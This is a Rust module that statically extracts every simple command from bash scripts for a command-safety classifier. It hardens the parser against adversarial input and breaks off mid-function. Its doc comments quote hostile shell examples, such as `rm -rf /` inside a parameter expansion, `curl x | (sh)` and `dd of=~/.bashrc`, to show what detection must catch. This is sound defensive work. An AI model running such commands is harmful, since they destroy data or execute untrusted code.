//! Static extraction of every simple command from a bash script.
//!
//! The classifier must never be bypassed by nesting, so this module walks *every*
//! construct of the script (lists, pipelines, compound commands, function bodies,
//! `[[ .. ]]`, arithmetic, redirect targets, assignment values, heredoc bodies, ...)
//! and re-parses the text of every command substitution (`$(..)`, backticks) and
//! process substitution (`<(..)`, `>(..)`) with the full parser, recursively.
//!
//! Parsing is done with `brush-parser`. That crate is not hardened against adversarial
//! input: it has internal `unwrap`s, recurses once per nesting level (a stack overflow
//! aborts the process and cannot be caught), and its PEG grammars backtrack exponentially
//! on some nested-but-invalid inputs (e.g. 30 unclosed `(` take minutes). We therefore:
//!
//! * reject oversized scripts and scripts whose bracket / compound-command nesting is
//!   deeper than a fixed bound *before* handing them to brush (bounds stack use and the
//!   exponent of the backtracking);
//! * run the parse on one of a few warm parser threads with a large stack, inside `catch_unwind`, and
//!   give up with an error after [`PARSE_TIMEOUT`] (the thread is then left to finish on
//!   its own; at most [`MAX_RUNAWAY_PARSES`] such threads may exist before every further
//!   parse fails fast) — except short scripts with nothing that nests (no parentheses,
//!   braces, brackets, backticks or `case`), whose parse is linear, which are parsed on the
//!   calling thread (still inside `catch_unwind`): the hand-off costs more than such a parse.
//!
//! Every failure is reported as [`ShellParseError`]; callers should treat an unparsable
//! script as "unknown / needs review", never as "safe". `parse_script` blocks the calling
//! thread (typically well under a millisecond, at most [`PARSE_TIMEOUT`]).
//!
//! # Output order
//!
//! [`ParsedScript::commands`] is a pre-order traversal in source order: a command comes
//! before the commands nested in its own words, assignments and redirects (which run
//! *before* it at execution time), and compound commands contribute their commands in
//! source order (for an `if`: condition, then-branch, elif/else branches).
//!
//! # Limitations
//!
//! * Static only. Strings that other programs execute (`eval "$x"`, `bash -c '...'`,
//!   `xargs sh`, `find -exec`, `source f`) are just words here (the classifier may feed
//!   them to [`parse_script`] again); variable values, aliases, `${!x}` indirection and
//!   arithmetic evaluation of variables holding `a[$(cmd)]` are invisible.
//! * Globs and brace expansions are not expanded (`{a,b}` becomes [`WordPiece::Other`]).
//! * Function bodies are reported once, with the context of the definition site
//!   (`background`, pipelines, inherited redirects), not per call site.
//! * brush-parser gaps surface as errors: `select` loops, `$(case x in a) ...;; esac)`
//!   (a case pattern without the optional leading `(` inside `$(..)`). `time` and `!`
//!   are accepted but not recorded.
//! * Conservative limits (all result in `Err`): 1 MiB of script, 128 nested brackets
//!   (counted even inside quotes), 64 nested compound commands, 10 nested subshells /
//!   `case`s, 8 nested expansions inside one word, substitution depth 32, 5 s.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::rc::Rc;
use std::sync::atomic::{AtomicU8, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock, mpsc};
use std::time::Duration;

use brush_parser::ast;
use brush_parser::word::{self as bword, WordPieceWithSource};
use brush_parser::{ParserOptions, Token};

/// Maximum nesting of command / process substitutions and subshells (the `depth` field).
pub const MAX_DEPTH: usize = 32;
/// Scripts longer than this (in bytes) are rejected outright.
pub const MAX_SCRIPT_BYTES: usize = 1024 * 1024;
/// Maximum net nesting of `(`/`{`/`[` characters anywhere in a (sub)script, counted without
/// regard to quoting. Bounds brush's recursion (tokenizer and word parser) so it cannot
/// overflow the stack.
const MAX_BRACKET_NESTING: usize = 128;
/// Maximum nesting of compound commands (`(`, `{`, `if`, loops, `case`, `[[`) at the token
/// level. Bounds the recursion of brush's command grammar.
const MAX_STRUCT_NESTING: usize = 64;
/// Maximum nesting of the constructs on which brush's command grammar backtracks
/// exponentially (`(` and `case`). Each level roughly doubles the worst-case parse time.
const MAX_BACKTRACK_NESTING: usize = 10;
/// Maximum nesting of expansions (`$(`, `${`, `$[`) and the parentheses inside them within
/// a single word: brush's word grammar backtracks exponentially on them (each level
/// multiplies the worst case by ~3; at 8 it is tens of milliseconds).
const MAX_WORD_NESTING: usize = 8;
/// Hard bound on the recursion of our own AST walker (belt and braces: the token-level
/// checks above already bound it).
const MAX_WALK_NESTING: usize = 512;
/// Budget for heredoc text copied into the output: an inherited heredoc is repeated in
/// every command of the compound command it feeds, which would otherwise let a 1 MiB
/// script produce gigabytes of output.
const MAX_COPIED_TEXT_BYTES: usize = 32 * 1024 * 1024;
/// Stack size of the parser thread.
const PARSER_STACK_BYTES: usize = 16 * 1024 * 1024;
/// Wall-clock budget of one `parse_script` call.
pub const PARSE_TIMEOUT: Duration = Duration::from_secs(5);
/// How many timed-out parser threads may still be running before we refuse new work.
pub const MAX_RUNAWAY_PARSES: usize = 2;

/// Number of parser threads that exceeded [`PARSE_TIMEOUT`] and are still running.
static RUNAWAY_PARSES: AtomicUsize = AtomicUsize::new(0);

/// Why a script could not be analysed.
#[derive(Debug, Clone, thiserror::Error)]
#[error("shell parse error: {message}")]
pub struct ShellParseError {
    pub message: String,
}

impl ShellParseError {
    fn new(message: impl Into<String>) -> Self {
        Self {
            message: message.into(),
        }
    }
}

type Result<T> = std::result::Result<T, ShellParseError>;

/// Everything extracted from a script.
#[derive(Debug, Clone, Default)]
pub struct ParsedScript {
    /// Every simple command at every nesting depth, in pre-order (see module docs).
    pub commands: Vec<SimpleCommand>,
    /// Names of functions defined anywhere in the script (including inside substitutions),
    /// in definition order, possibly with duplicates.
    pub functions: Vec<String>,
}

/// One simple command (`[assignments] [words] [redirects]`).
///
/// Besides real simple commands, two pseudo-commands are emitted so that a classifier
/// sees them: `[[ ... ]]` (words: `[[`, the operands and operators, `]]`) and arithmetic
/// commands `(( expr ))` (words: `((`, the expression, `))`).
#[derive(Debug, Clone)]
pub struct SimpleCommand {
    /// 0 at top level; +1 for each command substitution `$(..)`/backticks, process
    /// substitution `<(..)`/`>(..)`, subshell `( .. )`. (Brace groups, loops, if/case,
    /// functions and coprocs do not add depth.)
    pub depth: usize,
    /// Leading `VAR=value` assignments. Array elements are named `a[idx]`; an array value
    /// `(x y)` is represented by the element words joined with `Literal(" ")`.
    pub assignments: Vec<(String, ShellWord)>,
    /// Command name followed by its arguments (redirections removed). May be empty for a
    /// pure assignment or redirection-only command. Process substitutions appear here as a
    /// word whose only piece is [`WordPiece::CommandSubst`].
    pub words: Vec<ShellWord>,
    /// The command's own redirects followed by those it inherits from enclosing compound
    /// commands / function bodies (`{ ..; } > f`), the latter with `inherited == true`.
    pub redirects: Vec<Redirect>,
    /// Body text of a heredoc (`<<EOF`, `<<-EOF`, `<<'EOF'`) or here-string (`<<< word`)
    /// that feeds this command's stdin, if any (also when inherited from an enclosing
    /// compound command). For a here-string this is the word's static value if it has one,
    /// else its raw text.
    pub stdin_text: Option<String>,
    /// Identifies the innermost pipeline this command belongs to; unique across the script.
    pub pipeline_id: usize,
    /// Position in that pipeline (0 = first).
    pub pipeline_pos: usize,
    /// Pipelines that contain this command indirectly, outermost first, as
    /// `(pipeline_id, pipeline_pos)`: e.g. in `curl x | (sh)` or `curl x | { sh; }` the
    /// `sh` is first in its own pipeline but also at position 1 of the `curl` pipeline.
    /// Command substitutions inherit stdin, so their commands also list the pipeline of
    /// the command they appear in.
    pub enclosing_pipelines: Vec<(usize, usize)>,
    /// Name of the function whose body contains this command, if any (innermost).
    pub in_function: Option<String>,
    /// True when run asynchronously (`&`), as part of a background list / pipeline, or in
    /// a coproc (inherited by everything nested inside).
    pub background: bool,
}

impl SimpleCommand {
    /// The command-name word, if any.
    pub fn name(&self) -> Option<&ShellWord> {
        self.words.first()
    }

    /// The static command name, if the command has one and it is fully static.
    pub fn static_name(&self) -> Option<String> {
        self.name().and_then(ShellWord::literal)
    }
}

/// A shell word, as written and decomposed.
#[derive(Debug, Clone)]
pub struct ShellWord {
    /// Source text of the word as written (quotes included).
    pub raw: String,
    pub pieces: Vec<WordPiece>,
}

/// A piece of a [`ShellWord`]. Adjacent `Literal` (resp. `Glob`) pieces are merged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WordPiece {
    /// Literal text after quote removal and backslash-escape processing (`\rm` -> "rm",
    /// `"a b"` -> "a b", `'x'` -> "x", `$'\x72m'` -> "rm").
    Literal(String),
    /// An unquoted glob pattern (`*`, `?`, `[...]`, extglob `@(..)` etc.), kept as text.
    Glob(String),
    /// Parameter expansion (`$HOME`, `${HOME}`, `$1`, `${X:-y}` -> "HOME", "1", "X").
    /// When the expansion's operand words contain command substitutions
    /// (`${X:-$(rm -rf /)}`), a `CommandSubst` piece follows.
    Param(String),
    /// An element or all elements of an array variable (`${a[0]}`, `${a[@]}`): its value is
    /// not known exactly, but may be one of the values the variable was seen to get. Never
    /// stands for a known value where something is allowed; only for finding more to flag.
    ArrayParam(String),
    /// Tilde prefix at word start: `~` -> "", `~user` -> "user", `~+` -> "+", `~-` -> "-".
    Tilde(String),
    /// Command substitution (`$(..)`, backticks) or process substitution; its commands
    /// are extracted into [`ParsedScript::commands`] at depth + 1.
    CommandSubst,
    /// Arithmetic expansion `$((..))` (raw text), unquoted brace expansion `{a,b}` (raw
    /// text: the word expands to several words), or anything else that is not static.
    Other(String),
}

impl ShellWord {
    /// The word's value when it is fully static (only `Literal` and `Glob` pieces, globs
    /// kept verbatim); `None` when it contains `Param`/`Tilde`/`CommandSubst`/`Other`.
    pub fn literal(&self) -> Option<String> {
        let mut s = String::new();
        for p in &self.pieces {
            match p {
                WordPiece::Literal(t) | WordPiece::Glob(t) => s.push_str(t),
                _ => return None,
            }
        }
        Some(s)
    }

    /// Whether the word contains an unquoted glob pattern.
    pub fn has_glob(&self) -> bool {
        self.pieces.iter().any(|p| matches!(p, WordPiece::Glob(_)))
    }

    /// Whether the word contains a command substitution, parameter or other expansion.
    pub fn is_dynamic(&self) -> bool {
        self.pieces.iter().any(|p| {
            matches!(
                p,
                WordPiece::CommandSubst
                    | WordPiece::Param(_)
                    | WordPiece::ArrayParam(_)
                    | WordPiece::Other(_)
            )
        })
    }

    /// Whether the word contains a command or process substitution.
    pub fn has_command_subst(&self) -> bool {
        self.pieces.contains(&WordPiece::CommandSubst)
    }

    /// A fully literal word (used for fds and synthesized words).
    fn plain(text: &str) -> Self {
        Self {
            raw: text.to_owned(),
            pieces: vec![WordPiece::Literal(text.to_owned())],
        }
    }

    /// The static value, or the raw text when the word is dynamic.
    fn value_or_raw(&self) -> String {
        self.literal().unwrap_or_else(|| self.raw.clone())
    }
}

/// One redirection.
#[derive(Debug, Clone)]
pub struct Redirect {
    /// Explicit fd number (`2>`), `None` when defaulted (0 for input kinds, 1 for output
    /// kinds; `&>`/`&>>` redirect both stdout and stderr and also have `None`).
    pub fd: Option<i32>,
    pub kind: RedirectKind,
    /// The file / fd word (for a heredoc: the delimiter as written; for a process
    /// substitution target: a `CommandSubst`-only word).
    pub target: ShellWord,
    /// The operator as written: `<`, `>`, `>|`, `>>`, `<>`, `<&`, `>&`, `&>`, `&>>`, `<<`,
    /// `<<-`, `<<<`.
    pub op: String,
    /// Heredoc body text (unexpanded), for `HereDoc` redirects.
    pub heredoc_body: Option<String>,
    /// True when inherited from an enclosing compound command or function body.
    pub inherited: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `<>`
    ReadWrite,
    /// `<&`
    DupIn,
    /// `>&`
    DupOut,
    /// `<<`, `<<-`
    HereDoc,
    /// `<<<`
    HereString,
}

/// Parse a shell script; `Err` on any syntax error (unterminated quote etc.) or when the
/// script exceeds the module's size / nesting / time bounds. Never panics.
pub fn parse_script(script: &str) -> std::result::Result<ParsedScript, ShellParseError> {
    if script.len() > MAX_SCRIPT_BYTES {
        return Err(ShellParseError::new(format!(
            "script too large ({} bytes, limit {MAX_SCRIPT_BYTES})",
            script.len()
        )));
    }
    // Cheap check first so absurd inputs never reach (or spawn) the parser.
    check_bracket_nesting(script)?;
    if RUNAWAY_PARSES.load(Ordering::SeqCst) >= MAX_RUNAWAY_PARSES {
        return Err(ShellParseError::new(
            "too many timed-out parses still running; refusing to parse",
        ));
    }

    if script.len() <= INLINE_MAX_BYTES && inline_safe(script) {
        // brush-parser contains `unwrap`s; a panic must become an error, not a crash.
        return catch_unwind(AssertUnwindSafe(|| parse_on_this_thread(script)))
            .unwrap_or_else(|_| Err(ShellParseError::new("internal parser panic")));
    }
    let (reply, answer) = mpsc::sync_channel(1);
    let state = Arc::new(AtomicU8::new(QUEUED));
    let job = Job {
        script: script.to_owned(),
        state: Arc::clone(&state),
        reply,
    };
    let pool = parser_pool()?;
    if pool.jobs.send(job).is_err() {
        return Err(ShellParseError::new("the parser threads have stopped"));
    }
    match answer.recv_timeout(PARSE_TIMEOUT) {
        Ok(result) => result,
        Err(mpsc::RecvTimeoutError::Disconnected) => {
            Err(ShellParseError::new("parser thread died"))
        }
        Err(mpsc::RecvTimeoutError::Timeout) => {
            // Still waiting in the queue: withdraw it; no worker is stuck on it.
            if state
                .compare_exchange(QUEUED, ABANDONED, Ordering::SeqCst, Ordering::SeqCst)
                .is_ok()
            {
                return Err(ShellParseError::new(format!(
                    "parse timed out after {PARSE_TIMEOUT:?} (parser busy)"
                )));
            }
            // Count first, then mark abandoned, so the worker's decrement (which only
            // happens after it observes ABANDONED) can never precede our increment.
            RUNAWAY_PARSES.fetch_add(1, Ordering::SeqCst);
            if state
                .compare_exchange(RUNNING, ABANDONED, Ordering::SeqCst, Ordering::SeqCst)
                .is_ok()
            {
                // The stuck worker exits when it finally finishes; replace it now so the
                // pool keeps its size.
                let _ = spawn_parser_worker(Arc::clone(&pool.queue));
                Err(ShellParseError::new(format!(
                    "parse timed out after {PARSE_TIMEOUT:?}"
                )))
            } else {
                // The worker finished in the meantime; its result is (about to be) sent.
                RUNAWAY_PARSES.fetch_sub(1, Ordering::SeqCst);
                answer
                    .recv_timeout(Duration::from_secs(1))
                    .unwrap_or_else(|_| Err(ShellParseError::new("parser thread died")))
            }
        }
    }
}

/// Whether `text` has none of the constructs brush's grammars backtrack on (parentheses,
/// braces, brackets, backticks, `case`): without them a parse cannot nest, so its time and
/// stack are linear in the text and it needs neither the big stack nor the timeout. (A bound on
/// the nesting alone was not enough: random token soup found an input that ran away.)
fn inline_safe(text: &str) -> bool {
    !text.contains(['(', ')', '{', '}', '[', ']', '`'])
        && !text
            .split(|c: char| !c.is_ascii_alphanumeric())
            .any(|word| word == "case" || word == "esac")
}

/// Hand-off states of one parse job.
const QUEUED: u8 = 0;
const RUNNING: u8 = 1;
const DONE: u8 = 2;
const ABANDONED: u8 = 3;

/// Parser threads kept warm: spawning a big-stack thread per parse would cost more than the
/// parse itself on the hook's hot path.
const PARSER_WORKERS: usize = 2;

/// Scripts at most this long with nothing that nests ([`inline_safe`]) are parsed on the
/// calling thread: handing them to a parser thread (two context switches) costs more than the
/// parse. Most commands an agent runs are like this.
const INLINE_MAX_BYTES: usize = 512;

struct Job {
    script: String,
    state: Arc<AtomicU8>,
    reply: mpsc::SyncSender<std::result::Result<ParsedScript, ShellParseError>>,
}

struct ParserPool {
    jobs: mpsc::Sender<Job>,
    queue: Arc<Mutex<mpsc::Receiver<Job>>>,
}

static PARSER_POOL: OnceLock<std::result::Result<ParserPool, String>> = OnceLock::new();

fn parser_pool() -> std::result::Result<&'static ParserPool, ShellParseError> {
    PARSER_POOL
        .get_or_init(|| {
            let (jobs, queue) = mpsc::channel::<Job>();
            let queue = Arc::new(Mutex::new(queue));
            for _ in 0..PARSER_WORKERS {
                spawn_parser_worker(Arc::clone(&queue))
                    .map_err(|e| format!("cannot start parser thread: {e}"))?;
            }
            Ok(ParserPool { jobs, queue })
        })
        .as_ref()
        .map_err(|e| ShellParseError::new(e.clone()))
}

fn spawn_parser_worker(queue: Arc<Mutex<mpsc::Receiver<Job>>>) -> std::io::Result<()> {
    std::thread::Builder::new()
        .name("shell-parse".to_owned())
        .stack_size(PARSER_STACK_BYTES)
        .spawn(move || {
            loop {
                let job = {
                    let guard = queue.lock().unwrap_or_else(|p| p.into_inner());
                    guard.recv()
                };
                let Ok(job) = job else { return };
                if job
                    .state
                    .compare_exchange(QUEUED, RUNNING, Ordering::SeqCst, Ordering::SeqCst)
                    .is_err()
                {
                    continue; // withdrawn by a caller that timed out while it was queued
                }
                // brush-parser contains `unwrap`s; a panic must become an error, not a crash.
                let result = catch_unwind(AssertUnwindSafe(|| parse_on_this_thread(&job.script)))
                    .unwrap_or_else(|_| Err(ShellParseError::new("internal parser panic")));
                if job
                    .state
                    .compare_exchange(RUNNING, DONE, Ordering::SeqCst, Ordering::SeqCst)
                    .is_err()
                {
                    // The caller gave up on us, counted us as a runaway and started a
                    // replacement: leave the pool.
                    RUNAWAY_PARSES.fetch_sub(1, Ordering::SeqCst);
                    return;
                }
                let _ = job.reply.send(result);
            }
        })
        .map(|_| ())
}

/// The actual parse; runs on the parser thread.
fn parse_on_this_thread(script: &str) -> Result<ParsedScript> {
    let mut walker = Walker {
        opts: ParserOptions::default(),
        out: ParsedScript::default(),
        next_pipeline_id: 0,
        copied_text_bytes: 0,
    };
    let ctx = Ctx {
        depth: 0,
        nesting: 0,
        src: Rc::from(script),
        in_function: None,
        background: false,
        pipelines: Vec::new(),
        inherited_redirects: Rc::default(),
        inherited_stdin: None,
    };
    walker.parse_source(script, &ctx)?;
    Ok(walker.out)
}

// ---------------------------------------------------------------------------------------
// Pre-parse resource checks
// ---------------------------------------------------------------------------------------

/// Rejects text whose net bracket nesting exceeds [`MAX_BRACKET_NESTING`]. Deliberately
/// ignores quoting: it over-approximates every recursive construct brush handles
/// (`$(`, `${`, `$((`, `$[`, subshells, extglobs), so it can only over-reject.
fn check_bracket_nesting(text: &str) -> Result<()> {
    let mut depth = 0usize;
    for c in text.chars() {
        match c {
            '(' | '{' | '[' => {
                depth += 1;
                if depth > MAX_BRACKET_NESTING {
                    return Err(ShellParseError::new(format!(
                        "brackets nested deeper than {MAX_BRACKET_NESTING}"
                    )));
                }
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    Ok(())
}

/// Rejects a word (or heredoc body) whose expansion nesting exceeds [`MAX_WORD_NESTING`].
///
/// Counts, outside single quotes, the open `$(`, `${`, `$[` and the `(` inside them. Text
/// outside any expansion is scanned linearly by brush and is not counted, so e.g.
/// `python3 -c 'f(g(h(x)))'` is fine. Quote handling errs towards counting.
fn check_word_nesting(text: &str, heredoc: bool) -> Result<()> {
    #[derive(PartialEq, Clone, Copy)]
    enum F {
        /// Inside `"..."` (or a heredoc body at top level, where `"` does not close).
        Dq,
        /// `$(`, `${`, `$[` or a `(` inside one of them.
        Open(char),
    }
    let mut stack: Vec<F> = Vec::new();
    let mut counted = 0usize;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let quoted = (heredoc && stack.is_empty()) || stack.last() == Some(&F::Dq);
        let mut open = None;
        match c {
            '\\' => {
                chars.next();
            }
            '`' => {
                // brush scans a backquoted body linearly; we re-parse it separately.
                while let Some(x) = chars.next() {
                    match x {
                        '\\' => {
                            chars.next();
                        }
                        '`' => break,
                        _ => {}
                    }
                }
            }
            '\'' if !quoted => {
                for x in chars.by_ref() {
                    if x == '\'' {
                        break;
                    }
                }
            }
            '"' if !heredoc || !stack.is_empty() => {
                if stack.last() == Some(&F::Dq) {
                    stack.pop();
                } else {
                    stack.push(F::Dq);
                }
            }
            '$' => match chars.peek() {
                Some(&'\'') if !quoted => {
                    // ANSI-C quoting: backslash escapes, including `\'`.
                    chars.next();
                    while let Some(x) = chars.next() {
                        match x {
                            '\\' => {
                                chars.next();
                            }
                            '\'' => break,
                            _ => {}
                        }
                    }
                }
                Some(&'(') => open = Some(')'),
                Some(&'{') => open = Some('}'),
                Some(&'[') => open = Some(']'),
                _ => {}
            },
            '(' if !quoted && counted > 0 => {
                stack.push(F::Open(')'));
                counted += 1;
            }
            ')' | '}' | ']' if !quoted && stack.last() == Some(&F::Open(c)) => {
                stack.pop();
                counted = counted.saturating_sub(1);
            }
            _ => {}
        }
        if let Some(close) = open {
            chars.next();
            stack.push(F::Open(close));
            counted += 1;
        }
        if counted > MAX_WORD_NESTING {
            return Err(ShellParseError::new(format!(
                "expansions nested deeper than {MAX_WORD_NESTING} in one word"
            )));
        }
    }
    Ok(())
}

/// Token-level nesting analysis run before brush's command grammar.
///
/// Approximates the compound-command nesting with a stack; reserved words are recognized
/// anywhere (over-approximation), and `)` closing a case pattern is told apart from `)`
/// closing a subshell so case patterns cannot be used to hide `(` nesting.
fn check_token_nesting(tokens: &[Token]) -> Result<()> {
    #[derive(PartialEq)]
    enum Frame {
        Paren,
        Case { in_patterns: bool },
        Block,
    }
    let mut stack: Vec<Frame> = Vec::new();
    let mut risky = 0usize; // Paren + Case frames on the stack.
    let mut pattern_start = false; // Next token may be the optional `(` of a case pattern.
    let mut case_words = 0u8; // Words seen since `case` (subject, then `in`).

    for token in tokens {
        let mut keep_pattern_start = false;
        match token {
            Token::Operator(op, _) => match op.as_str() {
                "(" => {
                    if pattern_start {
                        // Optional leading paren of a case pattern: `case x in (a) ..`.
                    } else {
                        stack.push(Frame::Paren);
                        risky += 1;
                    }
                }
                ")" => match stack.last_mut() {
                    Some(Frame::Case { in_patterns }) if *in_patterns => *in_patterns = false,
                    Some(Frame::Paren) => {
                        stack.pop();
                        risky = risky.saturating_sub(1);
                    }
                    _ => {}
                },
                ";;" | ";&" | ";;&" => {
                    if let Some(Frame::Case { in_patterns }) = stack.last_mut() {
                        *in_patterns = true;
                        pattern_start = true;
                        keep_pattern_start = true;
                    }
                }
                "\n" => keep_pattern_start = pattern_start,
                _ => {}
            },
            Token::Word(w, _) => {
                if case_words == 1 {
                    case_words = 2; // the case subject
                } else {
                    if case_words == 2
                        && w == "in"
                        && let Some(Frame::Case { in_patterns }) = stack.last_mut()
                    {
                        *in_patterns = true;
                        pattern_start = true;
                        keep_pattern_start = true;
                    }
                    case_words = 0;
                    match w.as_str() {
                        "case" => {
                            stack.push(Frame::Case { in_patterns: false });
                            risky += 1;
                            case_words = 1;
                        }
                        "esac" => {
                            while let Some(f) = stack.pop() {
                                if f != Frame::Block {
                                    risky = risky.saturating_sub(1);
                                }
                                if matches!(f, Frame::Case { .. }) {
                                    break;
                                }
                            }
                        }
                        "{" | "if" | "while" | "until" | "for" | "select" | "[[" => {
                            stack.push(Frame::Block);
                        }
                        "}" | "fi" | "done" | "]]" if stack.last() == Some(&Frame::Block) => {
                            stack.pop();
                        }
                        _ => {}
                    }
                }
            }
        }
        if !keep_pattern_start {
            pattern_start = false;
        }
        if stack.len() > MAX_STRUCT_NESTING {
            return Err(ShellParseError::new(format!(
                "compound commands nested deeper than {MAX_STRUCT_NESTING}"
            )));
        }
        if risky > MAX_BACKTRACK_NESTING {
            return Err(ShellParseError::new(format!(
                "subshells / case statements nested deeper than {MAX_BACKTRACK_NESTING}"
            )));
        }
    }
    Ok(())
}

/// brush's tokenizer loops forever at the end of the input when a here-document tag is empty
/// once leading ASCII whitespace is trimmed and unquoted: a tag of carriage returns or form
/// feeds (`<<\r `); inside `$(…)`, where blanks start tokens, a blank followed by another blank
/// or an operator (`$(<<\t `, `$(cat << ;`); an empty quoted tag (`<<''`); a substitution
/// (`<<$(  `). That would tie up a parser thread for good (and after [`MAX_RUNAWAY_PARSES`] of
/// them every parse would be refused), so reject, up front, any heredoc operator not followed
/// by an ordinary tag. Real scripts write `<<EOF`, `<< 'EOF'`, `<<-"EOF"`; arithmetic shifts
/// (`$((1 << n))`) are unaffected.
fn check_heredoc_delimiters(text: &str) -> Result<()> {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        // A run of unescaped `<` tokenizes greedily: `<<<` while three remain, then `<<` (a
        // heredoc operator) or `<`. Quoting is not tracked, so this can only over-reject.
        let escaped = i > 0 && bytes[i - 1] == b'\\';
        if bytes[i] != b'<' || escaped {
            i += 1;
            continue;
        }
        let run = bytes[i..].iter().take_while(|&&b| b == b'<').count();
        let end = i + run;
        i = end;
        if run % 3 != 2 {
            continue;
        }
        let mut j = end;
        if bytes.get(j) == Some(&b'-') {
            j += 1;
        }
        let blanks_start = j;
        while matches!(bytes.get(j), Some(b' ' | b'\t' | b'\r' | 0x0b | 0x0c)) {
            j += 1;
        }
        let blanks = &bytes[blanks_start..j];
        let odd_blanks = blanks.len() > 1 || blanks.iter().any(|b| !matches!(b, b' ' | b'\t'));
        let rest = &bytes[j..];
        let tag: &[u8] = match rest.first() {
            Some(&q @ (b'\'' | b'"')) => match rest[1..].iter().position(|&b| b == q) {
                Some(len) => &rest[1..=len],
                None => &[],
            },
            _ => {
                // brush ends a word at an unescaped blank, newline or operator (not at `\r`,
                // and not at the `(` of `$(`).
                let mut k = 0;
                while k < rest.len() {
                    let b = rest[k];
                    if b == b'\\' {
                        k += 2;
                        continue;
                    }
                    if matches!(b, b' ' | b'\t' | b'\n')
                        || b";&|)<>".contains(&b)
                        || (b == b'(' && (k == 0 || rest[k - 1] != b'$'))
                    {
                        break;
                    }
                    k += 1;
                }
                &rest[..k.min(rest.len())]
            }
        };
        let odd_tag = tag.is_empty()
            || rest.starts_with(b"$(")
            || rest.starts_with(b"${")
            || tag
                .iter()
                .any(|&b| b == b'`' || (b.is_ascii_control() && b != b'\t'))
            || tag.windows(2).any(|w| w == b"$(" || w == b"${");
        if odd_blanks || odd_tag {
            return Err(ShellParseError::new(
                "here-document operator without an ordinary tag",
            ));
        }
    }
    Ok(())
}

/// brush `unwrap`s the parse of an fd number written before a redirect (`99999999999>x`);
/// reject those up front instead of relying on `catch_unwind` (which would still print a
/// panic message).
fn check_fd_numbers(tokens: &[Token]) -> Result<()> {
    for pair in tokens.windows(2) {
        if let [Token::Word(w, wloc), Token::Operator(op, oloc)] = pair
            && op.starts_with(['<', '>'])
            && wloc.end.index == oloc.start.index
            && !w.is_empty()
            && w.bytes().all(|b| b.is_ascii_digit())
            && w.parse::<i32>().is_err()
        {
            return Err(ShellParseError::new("file descriptor number too large"));
        }
    }
    Ok(())
}

/// bash (outside POSIX mode) expands a tilde right after the `=` of any word shaped like an
/// assignment, arguments included: `dd of=~/.bashrc` writes the home directory's file. brush
/// leaves it as text; split it into `NAME=`, the tilde and the rest.
fn expand_tilde_after_assignment(raw: &str, pieces: &mut Vec<WordPiece>) {
    let Some((name, rest)) = raw.split_once('=') else {
        return;
    };
    let is_name = name
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    if !is_name || !rest.starts_with('~') {
        return;
    }
    let Some(WordPiece::Literal(first)) = pieces.first() else {
        return;
    };
    let prefix = format!("{name}=~");
    let Some(after) = first.strip_prefix(prefix.as_str()) else {
        return;
    };
    // `~user`, `~+` and `~-` prefixes end at the first slash.
    let (user, tail) = after.split_at(after.find('/').unwrap_or(after.len()));
    let user_ok = user.is_empty()
        || user
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        || user == "+"
        || user == "-";
    if !user_ok {
        return;
    }
    let mut replacement = vec![
        WordPiece::Literal(format!("{name}=")),
        WordPiece::Tilde(user.to_owned()),
    ];
    if !tail.is_empty() {
        replacement.push(WordPiece::Literal(tail.to_owned()));
    }
    pieces.splice(0..1, replacement);
}

/// brush `unwrap`s the parse of a tilde directory-stack index (`~99999999999999999999`).
fn check_tilde_number(raw: &str) -> Result<()> {
    if let Some(rest) = raw.strip_prefix('~') {
        let rest = rest.strip_prefix(['+', '-']).unwrap_or(rest);
        let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
        if !digits.is_empty() && digits.parse::<usize>().is_err() {
            return Err(ShellParseError::new("tilde directory index too large"));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------
// AST walk
// ---------------------------------------------------------------------------------------

/// Inherited context while walking.
#[derive(Clone)]
struct Ctx {
    depth: usize,
    /// Recursion guard for the walker itself.
    nesting: usize,
    /// Source text of the (sub)script being walked; used to recover raw text from spans.
    src: Rc<str>,
    in_function: Option<String>,
    background: bool,
    /// Enclosing pipelines (id, pos), innermost last.
    pipelines: Vec<(usize, usize)>,
    /// Redirects of enclosing compound commands / function bodies.
    /// (Shared: cloned for every nested construct.)
    inherited_redirects: Rc<Vec<Redirect>>,
    /// stdin text provided by an enclosing compound command's heredoc / here-string.
    inherited_stdin: Option<Rc<str>>,
}

impl Ctx {
    fn nested(&self) -> Result<Self> {
        let nesting = self.nesting + 1;
        if nesting > MAX_WALK_NESTING {
            return Err(ShellParseError::new("script nested too deeply"));
        }
        Ok(Self {
            nesting,
            ..self.clone()
        })
    }

    /// Context for a subshell-like construct (`( .. )`, `$( .. )`, `<( .. )`).
    fn deeper(&self) -> Result<Self> {
        let depth = self.depth + 1;
        if depth > MAX_DEPTH {
            return Err(ShellParseError::new(format!(
                "substitutions / subshells nested deeper than {MAX_DEPTH}"
            )));
        }
        let mut c = self.nested()?;
        c.depth = depth;
        Ok(c)
    }

    /// Adds a compound command's redirects to what nested commands inherit.
    fn with_redirects(&self, redirects: Vec<Redirect>) -> Self {
        let mut c = self.clone();
        if redirects.is_empty() {
            return c;
        }
        c.inherited_stdin = stdin_after(&redirects, c.inherited_stdin.take());
        let mut all = Vec::clone(&c.inherited_redirects);
        all.extend(redirects.into_iter().map(|mut r| {
            r.inherited = true;
            r
        }));
        c.inherited_redirects = Rc::new(all);
        c
    }
}

/// The stdin text after applying `redirects` (in order) to a command whose stdin text
/// would otherwise be `inherited`. Any other input redirect of fd 0 replaces it.
fn stdin_after(redirects: &[Redirect], inherited: Option<Rc<str>>) -> Option<Rc<str>> {
    let mut stdin = inherited;
    for r in redirects {
        if !matches!(r.fd, None | Some(0)) {
            continue;
        }
        match r.kind {
            RedirectKind::HereDoc => stdin = r.heredoc_body.as_deref().map(Rc::from),
